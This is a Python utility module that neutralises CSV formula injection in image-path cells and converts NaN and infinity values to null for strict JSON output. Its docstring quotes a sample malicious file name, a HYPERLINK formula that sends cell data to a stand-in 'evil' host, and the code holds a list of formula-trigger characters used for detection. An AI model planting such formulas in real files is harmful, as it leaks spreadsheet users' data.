"""Outputs that other programs read safely: CSV cells a spreadsheet won't run, JSON that strict parsers accept.

Image paths come from whoever named the files, so ``=HYPERLINK("http://evil/?"&A1).jpg`` is a valid file name
that Excel or LibreOffice would run as a formula when the CSV is opened. ``escape_csv_cell`` neutralises such
cells as OWASP advises (a leading ``'``), leaving numbers, negative ones included, as numbers. A model with a NaN
weight yields NaN outputs; Python's ``json`` writes them as bare ``NaN``, which is not JSON, so ``json_safe``
turns every non-finite number into ``null`` and lists where it did so under ``"nonfinite"``.
"""

from __future__ import annotations

import json
import math
import numbers
import re
from collections.abc import Iterable
from typing import Any

__all__ = ["NONFINITE_KEY", "dumps_jsonl", "escape_csv_cell", "escape_csv_row", "json_safe"]

NONFINITE_KEY = "nonfinite"
# OWASP's formula triggers (= + - @ tab CR), plus LF and NUL (ASVS 1.2.10) and the full-width forms that some
# spreadsheets fold to ASCII before parsing.
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def escape_csv_cell(value: Any) -> Any:
    """The cell as a spreadsheet should show it: text that would run as a formula gets a leading ``'``.

    Numbers (``int``, ``float``, and strings that are plain decimal numbers such as ``-0.5`` or ``1e-3``) stay
    numbers; everything else that starts, after any spaces, with ``= + - @``, a tab, CR, LF or NUL is prefixed.

    >>> escape_csv_cell('=HYPERLINK("http://x")'), escape_csv_cell("-0.25"), escape_csv_cell(-3), escape_csv_cell("a")
    ('\\'=HYPERLINK("http://x")', '-0.25', -3, 'a')
    """
    if not isinstance(value, str):
        return value
    head = value.lstrip(" ")
    if head.startswith(_TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def escape_csv_row(row: Iterable[Any]) -> list[Any]:
    """``escape_csv_cell`` applied to every cell of a row (header rows included: their names come from configs)."""
    return [escape_csv_cell(v) for v in row]


def json_safe(record: Any) -> Any:
    """A copy of ``record`` in which every NaN or infinity is ``None``, flagged in ``record["nonfinite"]``.

    The flag lists the dotted paths of the replaced values (``"intensity.anger"``, ``"top_k.0.probability"``)
    and is added to a top-level dict only when something was replaced; other values pass through unchanged.

    >>> json_safe({"image": "a.jpg", "intensity": {"anger": float("nan"), "joy": 1.5}})
    {'image': 'a.jpg', 'intensity': {'anger': None, 'joy': 1.5}, 'nonfinite': ['intensity.anger']}
    """
    bad: list[str] = []
    out = _clean(record, "", bad)
    if bad and isinstance(out, dict):
        out[NONFINITE_KEY] = bad
    return out


def _clean(value: Any, path: str, bad: list[str]) -> Any:
    if isinstance(value, dict):
        return {k: _clean(v, f"{path}.{k}" if path else str(k), bad) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [_clean(v, f"{path}.{i}" if path else str(i), bad) for i, v in enumerate(value)]
    if isinstance(value, numbers.Real) and not isinstance(value, numbers.Integral) and not math.isfinite(value):
        bad.append(path)
        return None
    return value


def dumps_jsonl(record: Any) -> str:
    """One JSONL line (no newline) that strict parsers accept: ``json_safe`` then ``allow_nan=False``."""
    return json.dumps(json_safe(record), allow_nan=False)
